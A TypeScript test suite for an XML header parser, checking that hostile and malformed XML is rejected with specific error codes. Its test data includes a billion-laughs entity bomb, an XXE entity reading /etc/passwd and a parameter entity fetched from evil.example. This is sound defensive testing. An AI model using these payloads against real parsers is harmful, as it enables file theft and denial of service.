import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  decodeHeaders,
  MAX_XML_ATTRIBUTE_BYTES,
  MAX_XML_BYTES,
  MAX_XML_DEPTH,
  MAX_XML_ELEMENTS,
  MessageError,
  MT2_MESSAGE_NAMESPACE,
  parseXmlDocument,
  type MessageErrorCode,
} from '../../../src/message/index.ts';

const OPEN = `<headers xmlns="${MT2_MESSAGE_NAMESPACE}">`;

function rejects(input: string | Uint8Array, code: MessageErrorCode): void {
  assert.throws(
    () => decodeHeaders(input),
    (error: unknown) => error instanceof MessageError && error.code === code,
  );
}

describe('hostile XML', () => {
  test('billion laughs is refused as a DTD', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE headers [',
      '  <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, level) => {
        const previous = level === 0 ? 'lol' : `lol${level}`;
        return `  <!ENTITY lol${level + 1} "${`&${previous};`.repeat(10)}">`;
      }),
      ']>',
      `${OPEN}<subject>&lol9;</subject></headers>`,
    ].join('\n');
    rejects(lol, 'XML_DTD_FORBIDDEN');
  });

  test('an external entity (XXE) is refused as a DTD', () => {
    rejects(
      `<!DOCTYPE headers [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${OPEN}<subject>&xxe;</subject></headers>`,
      'XML_DTD_FORBIDDEN',
    );
  });

  test('a parameter entity is refused as a DTD', () => {
    rejects(
      `<!DOCTYPE headers [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>${OPEN}</headers>`,
      'XML_DTD_FORBIDDEN',
    );
  });

  test('an undeclared entity reference is refused', () => {
    rejects(`${OPEN}<subject>&xxe;</subject></headers>`, 'XML_BAD_REFERENCE');
  });

  test('a character reference to a forbidden character is refused', () => {
    rejects(`${OPEN}<subject>&#0;</subject></headers>`, 'XML_BAD_REFERENCE');
  });

  test('deep nesting is refused past the depth limit, and accepted at it', () => {
    const nest = (depth: number) =>
      `${OPEN}<extension oid="1.2.3">${'<a>'.repeat(depth - 2)}${'</a>'.repeat(depth - 2)}</extension></headers>`;
    assert.equal(decodeHeaders(nest(MAX_XML_DEPTH)).extensions.length, 1);
    rejects(nest(MAX_XML_DEPTH + 1), 'XML_TOO_DEEP');
    rejects(nest(100_000), 'XML_TOO_DEEP');
  });

  test('too many elements are refused', () => {
    rejects(
      `${OPEN}<extension oid="1.2.3">${'<a/>'.repeat(MAX_XML_ELEMENTS)}</extension></headers>`,
      'XML_TOO_MANY_ELEMENTS',
    );
  });

  test('a huge attribute is refused, one at the limit is read', () => {
    const at = 'x'.repeat(MAX_XML_ATTRIBUTE_BYTES);
    assert.equal(parseXmlDocument(`<a b="${at}"/>`).attributes['b'], at);
    rejects(
      `${OPEN}<extension oid="1.2.3"><a b="${at}x"/></extension></headers>`,
      'XML_ATTRIBUTE_TOO_LONG',
    );
  });

  test('an attribute counts bytes, not characters', () => {
    const wide = 'é'.repeat(MAX_XML_ATTRIBUTE_BYTES / 2 + 1);
    assert.throws(
      () => parseXmlDocument(`<a b="${wide}"/>`),
      (error: unknown) => error instanceof MessageError && error.code === 'XML_ATTRIBUTE_TOO_LONG',
    );
  });

  test('invalid UTF-8 is refused', () => {
    const bytes = Buffer.concat([
      Buffer.from(`${OPEN}<subject>`),
      Buffer.from([0xc3, 0x28]),
      Buffer.from('</subject></headers>'),
    ]);
    rejects(bytes, 'XML_INVALID_UTF8');
  });

  test('a truncated document is refused', () => {
    const whole = `${OPEN}<subject>Hello</subject></headers>`;
    for (const cut of [whole.length - 3, whole.length - 12, 20, 1]) {
      rejects(whole.slice(0, cut), 'XML_TRUNCATED');
    }
    rejects('', 'XML_TRUNCATED');
  });

  test('a document over the size limit is refused before parsing', () => {
    rejects(`${OPEN}<subject>${'a'.repeat(MAX_XML_BYTES)}</subject></headers>`, 'XML_TOO_LARGE');
  });

  test('mismatched tags are refused as malformed', () => {
    rejects(`${OPEN}<subject>x</from></headers>`, 'XML_MALFORMED');
  });

  test('names follow the XML Name production, ASCII or not', () => {
    const root = (name: string) => parseXmlDocument(`<${name} a="1"></${name}>`).name;
    for (const name of ['h', 'x:y', '_a.b-9', 'héllo', 'aé', 'é', '名前', 'a\u00b7b', 'a\u{10000}'])
      assert.equal(root(name), name);
    for (const bad of ['9a', '-a', '.a', 'a\u00d7', '\u00d7'])
      assert.throws(
        () => parseXmlDocument(`<${bad}/>`),
        (error: unknown) => error instanceof MessageError && error.code === 'XML_MALFORMED',
        bad,
      );
  });

  test('a raw control character is refused as malformed', () => {
    rejects(`${OPEN}<subject>a\u0001b</subject></headers>`, 'XML_MALFORMED');
  });

  test('a document that declares an encoding other than UTF-8 is refused', () => {
    rejects(`<?xml version="1.0" encoding="ISO-8859-1"?>${OPEN}</headers>`, 'XML_MALFORMED');
    assert.deepEqual(
      decodeHeaders(`<?xml version="1.0" encoding="utf-8"?>${OPEN}</headers>`).fields,
      [],
    );
  });

  test('the error names where the fault is', () => {
    assert.throws(
      () => decodeHeaders(`${OPEN}\n<subject>&bogus;</subject></headers>`),
      (error: unknown) => error instanceof MessageError && /line 2/.test(error.path),
    );
  });
});

describe('well-formedness, read in the same pass', () => {
  const malformed = (input: string) => {
    assert.throws(
      () => parseXmlDocument(input),
      (error: unknown) => error instanceof MessageError && error.code === 'XML_MALFORMED',
      input,
    );
  };

  test('attributes must be quoted, named, separated and given once', () => {
    malformed('<a b=c/>');
    malformed('<a b/>');
    malformed('<a b="1"c="2"/>');
    malformed('<a b="1" b="2"/>');
    malformed('<a =""/>');
    malformed('<a b="x<y"/>');
  });

  test('one root element, nothing but blanks, comments and instructions beside it', () => {
    malformed('<a/><b/>');
    malformed('text<a/>');
    malformed('<a/>text');
    malformed('<![CDATA[x]]><a/>');
    assert.equal(parseXmlDocument('<?xml version="1.0"?>\n<!-- c --><a/>\n<?pi x?>\n').name, 'a');
  });

  test('names are XML names and end tags match their start tags', () => {
    malformed('<1a/>');
    malformed('<a></b>');
    malformed('<a><b></a></b>');
    malformed('</a>');
    malformed('<a></a x="1">');
    malformed('<a/ >');
    assert.equal(parseXmlDocument('<x:a\n  y:b = "1" ></x:a >').attributes['y:b'], '1');
  });

  test('text keeps its blanks, CDATA and text around a comment are one text node', () => {
    const root = parseXmlDocument('<a> x <![CDATA[<&>]]> y<!-- c -->z<b/>&lt;&#x41;&#66;</a>');
    assert.deepEqual(root.children, [
      ' x <&> yz',
      { name: 'b', attributes: {}, children: [] },
      '<AB',
    ]);
  });

  test('references are found wherever they come, after text and markup without any', () => {
    const root = parseXmlDocument('<a x="1">t<!-- & --><b y="&lt;">u</b>v&amp;<c>&#x41;</c></a>');
    assert.deepEqual(root.children, [
      't',
      { name: 'b', attributes: { y: '<' }, children: ['u'] },
      'v&',
      { name: 'c', attributes: {}, children: ['A'] },
    ]);
    assert.throws(
      () => parseXmlDocument('<a>t<!-- & --><b>u</b><c>&bogus;</c></a>'),
      (error: unknown) => error instanceof MessageError && error.code === 'XML_BAD_REFERENCE',
    );
  });

  test('attribute values have their references decoded; __proto__ is an ordinary name', () => {
    const root = parseXmlDocument(`<a b="&quot;&apos;&amp;&#x9;" __proto__="p" c='"'/>`);
    assert.equal(root.attributes['b'], `"'&\t`);
    assert.equal(root.attributes['c'], '"');
    assert.deepEqual(Object.keys(root.attributes), ['b', '__proto__', 'c']);
    assert.equal(Object.getOwnPropertyDescriptor(root.attributes, '__proto__')?.value, 'p');
  });

  test('a document cut inside any construct is truncated, not malformed', () => {
    for (const cut of [
      '<a',
      '<a b',
      '<a b=',
      '<a b="1',
      '<a/',
      '<a></a',
      '<a><!-- x',
      '<a><![CDATA[',
      '<a><?p',
    ]) {
      assert.throws(
        () => parseXmlDocument(cut),
        (error: unknown) => error instanceof MessageError && error.code === 'XML_TRUNCATED',
        cut,
      );
    }
  });
});
